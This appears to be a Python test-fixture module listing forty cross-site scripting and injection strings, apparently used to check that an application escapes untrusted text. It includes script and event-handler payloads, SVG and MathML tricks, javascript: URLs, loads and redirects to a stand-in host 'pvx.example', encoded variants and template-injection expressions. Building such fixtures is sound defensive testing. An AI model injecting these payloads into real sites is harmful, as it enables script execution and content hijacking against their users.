"""Forty texts that become elements, handlers, styles, addresses or code wherever they are not kept as text."""

from __future__ import annotations

PLAIN = 'K+ <3.5 & "rash"'
AWAY = "//pvx.example"
"""A site that nobody here may ever ask for anything."""

PAYLOADS = (
    "<script>pvx()</script>",
    '"><script>pvx()</script>',
    "'><script>pvx()</script>",
    "</script><script>pvx()</script>",
    "</title></textarea></style></select></noscript></template><script>pvx()</script>",
    "--><script>pvx()</script><!--",
    "]]><script>pvx()</script>",
    f"<script src={AWAY}/x.js></script>",
    "<img src=x onerror=pvx()>",
    '"><img src=x onerror="pvx()">',
    f"<img src={AWAY}/p.gif>",
    f"<img srcset='{AWAY}/p.gif 1x' src=x>",
    "<svg onload=pvx()>",
    "<svg><script>pvx()</script></svg>",
    "<svg><animate onbegin=pvx() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pvx()><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pvx()>",
    "<details open ontoggle=pvx()>",
    "<body onload=pvx()>",
    "<input autofocus onfocus=pvx()>",
    '" autofocus onfocus="pvx()" x="',
    "' autofocus onfocus='pvx()' x='",
    "` autofocus onfocus=pvx() ",
    " onmouseover=pvx() ",
    "<video><source onerror=pvx()></video>",
    "<iframe srcdoc='<script>parent.pvx()</script>'></iframe>",
    f"<iframe src={AWAY}/></iframe>",
    "<object data=javascript:pvx()></object>",
    "<a href=javascript:pvx()>x</a>",
    "javascript:pvx()//",
    "\x09jav&#x09;ascript:pvx()",
    f"<base href={AWAY}/>",
    f"<link rel=stylesheet href={AWAY}/s.css>",
    f"<style>@import '{AWAY}/s.css';</style>",
    f'<div style="background:url({AWAY}/b.png)">',
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    f"<form action={AWAY}/><button formaction={AWAY}/>x</button>",
    "&lt;script&gt;pvx()&lt;/script&gt;&#60;img src=x onerror=pvx()&#62;",
    "\\x3cscript\\x3epvx()\\x3c/script\\x3e\\u003cimg src=x onerror=pvx()\\u003e",
    "{{ 13371337 * 7777 }}${13371337*7777}<%= 13371337*7777 %>{% if pvx %}%(pvx)s#{13371337*7777}"
    "\u2028\u2029+ADw-script+AD4-pvx()+ADw-/script+AD4-",
)
